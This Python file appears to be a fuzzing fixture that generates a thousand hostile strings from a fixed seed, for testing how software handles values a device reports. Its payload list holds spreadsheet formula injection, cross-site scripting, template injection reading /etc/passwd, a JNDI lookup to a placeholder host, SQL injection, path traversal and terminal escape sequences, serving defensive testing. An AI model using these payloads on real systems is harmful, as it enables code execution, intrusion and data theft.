"""A thousand strings that a hostile device could say, made anew from a fixed seed."""

import random

STARTS = [
    "",
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\uff1d",
    "'",
    '"',
    ";=",
    ",=",
    "\ufeff=",
    "\u200b=",
    "\x00=",
]
PAYLOADS = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1/","x")',
    "1+1",
    "SUM(A1:A9)",
    'WEBSERVICE("http://192.0.2.1")',
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    '#let x = read("/etc/passwd")',
    '#import "@preview/x:0.1.0": *',
    "[link](javascript:alert(1))",
    "![i](http://192.0.2.1/i.png)",
    "| a | b |",
    "`code` *bold* _it_ ~~no~~",
    "[bold red]x[/bold red]",
    "[/x]",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\u202egnp.exe",
    "a\r\nb\nc",
    '"quoted","cells"',
    "../../etc/passwd",
    "/etc/passwd\x00.html",
    "%s%n%x",
    "${jndi:ldap://192.0.2.1/a}",
    "'; DROP TABLE runs; --",
    "_x005F_x000D_",
    "\u2028\u2029",
    "\ud800\udfff",
    "\ufffe\uffff",
    "\U0001d573\U0001d59a\U0001d586 \u534e\u4e3a \u4e2d\u5174",
    "e\u0301" * 40,
    "A" * 40_000,
    "\x85\x0b\x0c",
    'x",site="forged"} 1\nauditor_findings{maker="x',
]


def strings(number: int = 1000) -> list[str]:
    """Return hostile strings: every start before every payload first, then mixtures."""
    chance = random.Random(889)
    made = [start + payload for start in STARTS for payload in PAYLOADS]
    while len(made) < number:
        made.append("".join(chance.choice(STARTS + PAYLOADS[:-5]) for _ in range(3)))
    chance.shuffle(made)
    return made[:number]
